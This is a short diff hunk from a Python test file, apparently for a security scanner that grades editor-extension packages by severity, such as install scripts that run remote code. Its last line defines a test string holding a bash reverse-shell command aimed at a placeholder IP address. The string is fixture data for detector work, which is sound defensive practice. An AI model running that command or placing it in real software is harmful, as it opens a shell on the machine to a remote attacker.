@@ -246,7 +246,7 @@ def test_a_block_of_markdown_in_a_text_starts_nothing(fence: str) -> None:
 
 
 def test_a_package_that_no_editor_starts_may_have_a_script_that_installs_for_its_user() -> None:
-    none: dict[str, object] = {"activationEvents": []}
+    none: dict[str, object] = {"activationEvents": [], "bin": "tool.js"}
     assert worst({"install.sh": PIPE}) == {"runs-remote-code": Severity.HIGH}
     assert worst({"install.sh": PIPE}, **none) == {"runs-remote-code": Severity.MEDIUM}
     shell = "bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n"
